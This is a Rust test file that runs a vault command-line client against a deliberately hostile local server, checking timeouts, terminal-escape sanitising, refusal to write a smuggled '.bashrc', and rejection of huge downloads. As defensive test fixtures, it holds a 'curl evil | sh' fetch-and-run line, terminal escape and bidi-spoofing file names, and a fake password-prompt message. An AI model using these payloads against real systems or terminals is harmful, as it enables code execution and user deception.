//! The vault client against a hostile server: one that drips its reply, sends terminal
//! escape sequences in its strings, or hands over an archive whose file is named
//! `.bashrc`. The server here is ours, built to lie, with a certificate the client
//! trusts (a student who runs a fake vault on the classroom network and hands out its
//! CA, or a real vault that was taken over).

mod common;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::path::Path;
use std::process::{Output, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use base64::Engine;
use squirrel::http::{Request, Response};
use squirrel::server::{Server, ServerHandle, Transport};
use squirrel::vault::archive;
use squirrel::vault::keys::{KdfParams, MasterKey, MIN_ITERATIONS};

const PASSWORD: &str = "hazel-7731";

/// A client folder (`--dir`) with certificates from a fresh development PKI, whose
/// server certificate the fake server presents.
struct Fake {
    dir: tempfile::TempDir,
}

impl Fake {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        squirrel::pki::ensure_dev_pki(&dir.path().join("certs")).unwrap();
        Fake { dir }
    }

    fn certs(&self) -> std::path::PathBuf {
        self.dir.path().join("certs")
    }

    fn acceptor(&self) -> openssl::ssl::SslAcceptor {
        let certs = self.certs();
        squirrel::tls::server_acceptor(
            &certs.join("server.crt"),
            &certs.join("server.key"),
            Some(&certs.join("ca.crt")),
        )
        .unwrap()
    }

    /// A server on the shared accept loop answering with `handler`.
    fn serve(
        &self,
        handler: impl Fn(Request, SocketAddr) -> Response + Send + Sync + 'static,
    ) -> ServerHandle {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        Server::new(
            "fake",
            listener,
            Transport::OpenSsl(self.acceptor()),
            Arc::new(handler),
        )
        .spawn()
        .unwrap()
    }

    /// Runs `squirrel vault ARGS --server … --user nutkin` against `port`, killed if it
    /// runs past `limit`; returns its output and how long it ran.
    fn run(&self, port: u16, args: &[&str], limit: Duration) -> (Output, Duration) {
        let started = Instant::now();
        let server = format!("127.0.0.1:{port}");
        let mut all = vec!["vault"];
        all.extend_from_slice(args);
        all.extend(["--server", &server, "--user", "nutkin"]);
        let mut child = common::squirrel(self.dir.path(), &all, &[("SQUIRREL_PASSWORD", PASSWORD)])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        while child.try_wait().unwrap().is_none() {
            if started.elapsed() > limit {
                let _ = child.kill();
                break;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let output = child.wait_with_output().unwrap();
        (output, started.elapsed())
    }
}

/// The kdf of the fake accounts: a cheap iteration count, a fixed salt.
fn kdf() -> KdfParams {
    KdfParams {
        algorithm: "pbkdf2-sha256".into(),
        salt: base64::engine::general_purpose::STANDARD.encode([7u8; 16]),
        iterations: MIN_ITERATIONS,
    }
}

fn login_reply() -> Response {
    Response::json(
        200,
        &serde_json::json!({"message": "ok", "session_id": "fake-session", "kdf": kdf()}),
    )
}

/// Bytes a terminal acts on: ESC (escape sequences), BEL (ends an OSC title), CR
/// (rewrites the line), and the 8-bit CSI.
fn assert_no_terminal_controls(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for bad in ['\u{1b}', '\u{7}', '\r', '\u{9b}', '\u{202e}'] {
        assert!(
            !text.contains(bad),
            "{what} holds {:?}: {text:?}",
            bad.escape_unicode().to_string()
        );
    }
}

#[test]
fn a_server_dripping_its_reply_cannot_hold_the_client_past_its_deadline() {
    let fake = Fake::new();
    let acceptor = fake.acceptor();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // Announces 100 000 bytes, then sends one every 3 s (for a minute at most).
    std::thread::spawn(move || {
        let Ok((tcp, _)) = listener.accept() else {
            return;
        };
        let Ok(mut tls) = acceptor.accept(tcp) else {
            return;
        };
        let mut buf = [0u8; 4096];
        let _ = tls.read(&mut buf);
        if tls
            .write_all(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{")
            .is_err()
        {
            return;
        }
        for _ in 0..20 {
            std::thread::sleep(Duration::from_secs(3));
            if tls.write_all(b" ").is_err() {
                return;
            }
        }
    });
    let (out, took) = fake.run(port, &["list", "--timeout", "3"], Duration::from_secs(30));
    // 3 s, plus the time 100 000 bytes need at 64 KiB/s (1.5 s), plus start-up.
    assert!(
        took < Duration::from_secs(8),
        "vault list waited {took:?} for a dripping server"
    );
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("error:"), "{stderr}");
    println!(
        "figure: vault list --timeout 3 against a server dripping a byte every 3 s ended after {:.1} s",
        took.as_secs_f64()
    );
}

#[test]
fn terminal_escapes_from_the_server_never_reach_the_terminal() {
    let fake = Fake::new();
    let stamp = "_2026-01-01T00-00-00.enc";
    let names = [
        format!("\u{1b}[2Jwiped{stamp}"),
        format!("title\u{1b}]0;pwned\u{7}{stamp}"),
        format!("cr\rfake{stamp}"),
        format!("csi\u{9b}31m{stamp}"),
        format!("invoice\u{202e}fdp.exe{stamp}"),
        format!("honest.txt{stamp}"),
    ];
    let listed = names.clone();
    let server = fake.serve(move |req, _| match req.path() {
        "/login" => login_reply(),
        "/get-files" => Response::json(200, &serde_json::json!({ "archives": listed })),
        _ => Response::json(200, &serde_json::json!({"message": "ok"})),
    });
    let (out, _) = fake.run(server.addr().port(), &["list"], Duration::from_secs(30));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_no_terminal_controls("stdout", &out.stdout);
    assert_no_terminal_controls("stderr", &out.stderr);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("honest.txt"), "{stdout}");
    // The bidi override is shown, escaped, not obeyed.
    assert!(stdout.contains("\\u{202e}"), "{stdout}");

    // An error message from the server is printed escaped too.
    let server = fake.serve(|_, _| {
        Response::error(
            401,
            "\u{1b}[31mwrong\u{1b}[0m\rall fine, \u{7}type your password again",
        )
    });
    let (out, _) = fake.run(server.addr().port(), &["list"], Duration::from_secs(30));
    assert!(!out.status.success());
    assert_no_terminal_controls("stderr", &out.stderr);
    assert!(String::from_utf8_lossy(&out.stderr).contains("wrong"));
}

/// A real archive (Fernet over ZIP, with the fake account's key) holding `entry`.
fn archive_holding(entry: &str, content: &[u8]) -> Vec<u8> {
    let key = MasterKey::derive(PASSWORD, &kdf())
        .unwrap()
        .archive_key()
        .unwrap();
    archive::seal(entry, content.to_vec(), &key, chrono::Utc::now())
        .unwrap()
        .into_bytes()
}

fn files_in(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn a_server_cannot_make_the_client_write_a_file_it_did_not_ask_for() {
    let fake = Fake::new();
    let evil = archive_holding(".bashrc", b"curl evil | sh\n");
    let honest = archive_holding("notes.txt", b"fluffy tail\n");
    let server = fake.serve(move |req, _| match req.path() {
        "/login" => login_reply(),
        "/archives/notes.txt_2026-01-01T00-00-00.enc" => Response::new(200).with_body(evil.clone()),
        "/archives/notes.txt%20%282%29_2026-01-01T00-00-00.enc" => {
            Response::new(200).with_body(honest.clone())
        }
        _ => Response::json(200, &serde_json::json!({"message": "ok"})),
    });
    let port = server.addr().port();
    let downloads = fake.dir.path().join("downloads");
    let (out, _) = fake.run(
        port,
        &["download", "notes.txt_2026-01-01T00-00-00.enc"],
        Duration::from_secs(30),
    );
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("nothing was written"), "{stderr}");
    assert!(
        files_in(&downloads).is_empty(),
        "{:?}",
        files_in(&downloads)
    );
    // The same server's honest archive (a collision-numbered name) is fine.
    let (out, _) = fake.run(
        port,
        &["download", "notes.txt (2)_2026-01-01T00-00-00.enc"],
        Duration::from_secs(30),
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(files_in(&downloads), vec!["notes.txt".to_string()]);
}

#[test]
fn a_server_announcing_a_huge_download_is_refused_before_it_is_read() {
    let fake = Fake::new();
    let server = fake.serve(move |req, _| match req.path() {
        "/login" => Response::json(
            200,
            &serde_json::json!({"message": "ok", "session_id": "s", "kdf": kdf(), "max_upload": 1024}),
        ),
        // Claims 100 GB.
        _ => Response::new(200).streamed(squirrel::http::StreamedBody::new(
            100_000_000_000,
            std::io::repeat(b'A'),
        )),
    });
    let (out, took) = fake.run(
        server.addr().port(),
        &["download", "notes.txt_2026-01-01T00-00-00.enc"],
        Duration::from_secs(30),
    );
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("larger than"), "{stderr}");
    assert!(took < Duration::from_secs(10), "{took:?}");
}
